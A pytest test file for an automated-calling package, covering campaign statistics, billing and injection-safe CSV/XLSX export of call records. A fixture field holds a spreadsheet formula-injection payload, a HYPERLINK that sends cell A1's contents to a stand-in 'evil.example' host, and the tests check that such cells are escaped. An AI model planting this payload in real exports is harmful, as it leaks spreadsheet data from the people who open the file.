"""Campaign statistics and call-detail-record export (CSV / XLSX, injection-safe)."""

from __future__ import annotations

import csv
import decimal
import io
import json
from pathlib import Path

import attrs
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from autoinformer.errors import AutoinformerError, SettingsError
from autoinformer.outcomes import Outcome
from autoinformer.records import AttemptRecord
from autoinformer.stats import (
    CDR_COLUMNS,
    CampaignStats,
    ExportError,
    billed_seconds,
    csv_safe,
    iso_utc,
    write_cdr_csv,
    write_cdr_xlsx,
)

T0 = 1_768_557_600.0  # 2026-01-16T10:00:00Z


def rec(
    n: int,
    outcome: Outcome | None,
    *,
    contact: str | None = None,
    start: float = 0.0,
    ring: float = 5.0,
    talk: float | None = None,
    caller_id: str | None = "+74950000000",
    **kw: object,
) -> AttemptRecord:
    started = T0 + start
    answered = started + ring if talk is not None else None
    ended = (answered + talk) if answered is not None and talk is not None else started + ring
    return AttemptRecord(
        attempt_id=f"a{n}",
        campaign="jan",
        contact_id=contact or f"c{n}",
        attempt_no=1,
        number=f"+7950888{n:04d}",
        caller_id=caller_id,
        started_at=started,
        answered_at=answered,
        ended_at=None if outcome is None else ended,
        outcome=outcome,
        **kw,  # type: ignore[arg-type]
    )


RECORDS = [
    rec(1, Outcome.DELIVERED, talk=30.0, digits="2"),
    rec(2, Outcome.DELIVERED, talk=60.0),
    rec(3, Outcome.TRANSFERRED, talk=61.0, digits="1", operator="ivanova", start=3600),
    rec(4, Outcome.ABANDONED, talk=12.0, digits="1", start=3600),
    rec(5, Outcome.MACHINE, talk=20.0, machine=True, start=3700),
    rec(6, Outcome.NO_ANSWER, cause=19, start=7200),
    rec(7, Outcome.BUSY, contact="c6", cause=17, start=7300),
    rec(8, Outcome.HUNG_UP_EARLY, talk=3.5, contact="c6", start=7400),
    rec(9, None, start=7500),
    rec(10, Outcome.TRANSFERRED, talk=0.4, digits="12#", operator="petrov", start=7600),
]


def test_counts_rates_and_cost() -> None:
    stats = CampaignStats.from_records(iter(RECORDS), rate_per_minute="1.8")
    assert stats.attempts == 9
    assert stats.in_flight == 1
    assert stats.contacts == 8  # c1..c5, c6 (three attempts), c9, c10
    assert stats.contacts_reached == 4  # c1, c2, c3, c10
    assert stats.by_outcome[Outcome.DELIVERED] == 2
    assert stats.by_outcome[Outcome.REJECTED] == 0
    assert set(stats.by_outcome) == set(Outcome)
    assert stats.answered == 7
    assert stats.machines == 1
    assert stats.answer_rate == pytest.approx(7 / 9)
    assert stats.delivery_rate == pytest.approx(4 / 8)
    assert stats.transfer_rate == pytest.approx(2 / 3)
    assert stats.abandon_rate == pytest.approx(1 / 6)
    assert stats.digits == {"#": 1, "1": 3, "2": 2}
    assert stats.digit_entries == {"1": 2, "12#": 1, "2": 1}
    assert stats.by_operator == {"ivanova": 1, "petrov": 1}
    assert stats.by_caller_id == {"+74950000000": {"attempts": 9, "answered": 7}}
    assert stats.talk_seconds == pytest.approx(186.9)
    # per started minute: 30->60, 60->60, 61->120, 12->60, 20->60, 3.5->60, 0.4->60
    assert stats.billed_seconds == 480
    assert stats.cost == decimal.Decimal("14.4")


def test_answer_rate_per_caller_id() -> None:
    records = [
        rec(1, Outcome.DELIVERED, talk=30.0, caller_id="+74951110000"),
        rec(2, Outcome.NO_ANSWER, caller_id="+74951110000"),
        rec(3, Outcome.NO_ANSWER, caller_id="+74952220000"),
        rec(4, Outcome.BUSY, caller_id=None),
    ]
    stats = CampaignStats.from_records(records)
    assert stats.by_caller_id == {
        "": {"attempts": 1, "answered": 0},
        "+74951110000": {"attempts": 2, "answered": 1},
        "+74952220000": {"attempts": 1, "answered": 0},
    }


def test_per_second_billing_and_float_noise() -> None:
    assert billed_seconds(60.0000001, 60) == 60
    assert billed_seconds(60.001, 60) == 120
    assert billed_seconds(0.0, 60) == 0
    assert billed_seconds(3.2, 1) == 4
    stats = CampaignStats.from_records(
        RECORDS, rate_per_minute=decimal.Decimal("1.8"), billing_increment=1
    )
    assert stats.billed_seconds == 30 + 60 + 61 + 12 + 20 + 4 + 1
    assert stats.cost == decimal.Decimal(188) / 60 * decimal.Decimal("1.8")


def test_hours_are_counted_in_the_campaign_zone() -> None:
    utc = CampaignStats.from_records(RECORDS)
    assert list(utc.by_hour) == [
        "2026-01-16T10:00:00+00:00",
        "2026-01-16T11:00:00+00:00",
        "2026-01-16T12:00:00+00:00",
    ]
    assert utc.by_hour["2026-01-16T11:00:00+00:00"] == {
        Outcome.TRANSFERRED: 1,
        Outcome.ABANDONED: 1,
        Outcome.MACHINE: 1,
    }
    moscow = CampaignStats.from_records(RECORDS, timezone="Europe/Moscow")
    assert next(iter(moscow.by_hour)) == "2026-01-16T13:00:00+03:00"


@pytest.mark.parametrize(
    ("zone", "before", "after"),
    [
        ("Asia/Kolkata", "2026-01-16T15:00:00+05:30", "2026-01-16T16:00:00+05:30"),
        ("Asia/Kathmandu", "2026-01-16T15:00:00+05:45", "2026-01-16T16:00:00+05:45"),
    ],
)
def test_hours_in_zones_with_odd_offsets(zone: str, before: str, after: str) -> None:
    # 10:14:59 UTC is 15:44:59 in Kolkata and 15:59:59 in Kathmandu; 10:31 UTC is past 16:00
    records = [rec(1, Outcome.BUSY, start=14 * 60 + 59), rec(2, Outcome.BUSY, start=31 * 60)]
    stats = CampaignStats.from_records(records, timezone=zone)
    assert stats.by_hour == {before: {Outcome.BUSY: 1}, after: {Outcome.BUSY: 1}}


def test_to_dict_is_json_with_vocabulary_words() -> None:
    d = CampaignStats.from_records(RECORDS, rate_per_minute="1.8").to_dict()
    back = json.loads(json.dumps(d))
    assert back["by_outcome"]["delivered"] == 2
    assert back["by_hour"]["2026-01-16T12:00:00+00:00"]["busy"] == 1
    assert back["rates"] == {
        "answer": 0.7778,
        "delivery": 0.5,
        "transfer": 0.6667,
        "abandon": 0.1667,
    }
    assert back["cost"] == "14.40"
    assert back["billed_minutes"] == "8.00"
    assert back["talk_minutes"] == 3.12


def test_empty_campaign_has_no_rates() -> None:
    stats = CampaignStats.from_records([])
    assert (stats.answer_rate, stats.delivery_rate, stats.transfer_rate, stats.abandon_rate) == (
        None,
        None,
        None,
        None,
    )
    assert stats.cost == 0
    assert stats.to_dict()["rates"]["answer"] is None


@pytest.mark.parametrize(
    ("kwargs", "field"),
    [
        ({"rate_per_minute": "-1"}, "rate_per_minute"),
        ({"rate_per_minute": "abc"}, "rate_per_minute"),
        ({"rate_per_minute": float("nan")}, "rate_per_minute"),
        ({"billing_increment": 0}, "billing_increment"),
        ({"billing_increment": 1.5}, "billing_increment"),
        ({"timezone": "Mars/Olympus"}, "timezone"),
    ],
)
def test_bad_settings_name_the_argument(kwargs: dict[str, object], field: str) -> None:
    with pytest.raises(SettingsError) as exc:
        CampaignStats.from_records(RECORDS, **kwargs)  # type: ignore[arg-type]
    assert exc.value.field == field


# --- call detail records ------------------------------------------------------------------

EVIL = rec(
    11,
    Outcome.DELIVERED,
    talk=15.0,
    contact='=HYPERLINK("http://evil.example/?x="&A1,"click")',
    detail="@SUM(1+1)\x01",
    cause=16,
    operator="-2+3",
)


def test_iso_utc() -> None:
    assert iso_utc(T0) == "2026-01-16T10:00:00Z"
    assert iso_utc(T0 + 0.25) == "2026-01-16T10:00:00.250Z"
    assert iso_utc(None) is None


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+79508881234", "'+79508881234"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Ivanov", "Ivanov"),
        ("", ""),
    ],
)
def test_csv_safe(raw: str, safe: str) -> None:
    assert csv_safe(raw) == safe


def test_csv_export_escapes_and_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "calls.csv"
    assert write_cdr_csv([*RECORDS[:3], EVIL], path) == 4
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert tuple(rows[0]) == CDR_COLUMNS
    first = rows[0]
    assert first["number"] == "'+79508880001"
    assert first["started_at"] == "2026-01-16T10:00:00Z"
    assert first["answered_at"] == "2026-01-16T10:00:05Z"
    assert first["ended_at"] == "2026-01-16T10:00:35Z"
    assert first["talk_seconds"] == "30.0"
    assert first["outcome"] == "delivered"
    assert first["digits"] == "2"
    evil = rows[3]
    assert evil["contact"] == "'" + EVIL.contact_id
    assert evil["operator"] == "'-2+3"
    assert evil["detail"] == "'@SUM(1+1)\x01"
    assert evil["cause"] == "16"
    assert evil["cause_name"] == "NORMAL_CLEARING"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (row, value)


def test_csv_export_to_a_stream_with_semicolons() -> None:
    out = io.StringIO(newline="")
    assert write_cdr_csv(RECORDS, out, delimiter=";") == len(RECORDS)
    lines = out.getvalue().split("\r\n")
    assert lines[0].startswith("attempt_id;campaign;contact;")
    in_flight = next(line for line in lines if line.startswith("a9;"))
    assert ";;;" in in_flight  # no outcome, no end, no answer


def test_xlsx_export_writes_text_as_strings(tmp_path: Path) -> None:
    path = tmp_path / "calls.xlsx"
    assert write_cdr_xlsx([RECORDS[0], EVIL], path) == 2
    ws = openpyxl.load_workbook(path).active
    assert ws is not None
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == list(CDR_COLUMNS)
    col = {name: i for i, name in enumerate(CDR_COLUMNS)}
    number = rows[1][col["number"]]
    assert (number.value, number.data_type) == ("+79508880001", "s")
    contact = rows[2][col["contact"]]
    assert (contact.value, contact.data_type) == (EVIL.contact_id, "s")
    assert rows[2][col["operator"]].data_type == "s"
    assert rows[2][col["detail"]].value == "@SUM(1+1)"  # the control character is dropped
    talk = rows[1][col["talk_seconds"]]
    assert (talk.value, talk.data_type) == (30, "n")
    assert all(c.data_type != "f" for row in rows for c in row)


def test_xlsx_export_to_a_stream() -> None:
    buffer = io.BytesIO()
    assert write_cdr_xlsx(RECORDS, buffer) == len(RECORDS)
    ws = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert ws is not None
    assert ws.max_row == len(RECORDS) + 1


@pytest.mark.parametrize("writer", [write_cdr_csv, write_cdr_xlsx])
def test_unwritable_target_raises_our_error(tmp_path: Path, writer: object) -> None:
    target = tmp_path / "missing-dir" / "calls.out"
    with pytest.raises(ExportError, match="missing-dir") as exc:
        writer(RECORDS, target)  # type: ignore[operator]
    assert isinstance(exc.value, AutoinformerError)


# --- properties: any text survives, none is executed ---------------------------------------

TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)


@settings(deadline=None)  # no wall-clock limit: a busy CI machine must not fail it
@given(value=TEXT)
def test_csv_cell_is_never_executed_and_reads_back(value: str) -> None:
    out = io.StringIO(newline="")
    write_cdr_csv([attrs.evolve(RECORDS[0], detail=value)], out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    cell = row["detail"]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert (cell[1:] if cell != value else cell) == value


@settings(max_examples=25, deadline=None)
@given(value=TEXT)
def test_xlsx_text_is_a_string_cell_with_the_same_text(value: str) -> None:
    buffer = io.BytesIO()
    write_cdr_xlsx([attrs.evolve(RECORDS[0], detail=value)], buffer)
    ws = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert ws is not None
    cell = ws.cell(row=2, column=CDR_COLUMNS.index("detail") + 1)
    kept = ILLEGAL_CHARACTERS_RE.sub("", value)
    if kept:
        assert cell.data_type == "s"
        # With lxml, openpyxl writes a CR as &#13; and the text comes back exactly; without it,
        # XML's line-end normalisation on reading turns \r\n and \r into \n.
        assert cell.value in (kept, kept.replace("\r\n", "\n").replace("\r", "\n"))


def test_export_error_lives_in_the_one_tree() -> None:
    import autoinformer.errors as errors
    import autoinformer.stats.cdr as cdr

    assert ExportError is errors.ExportError is cdr.ExportError
    assert issubclass(ExportError, AutoinformerError)
    assert "ExportError" in (errors.__doc__ or "")
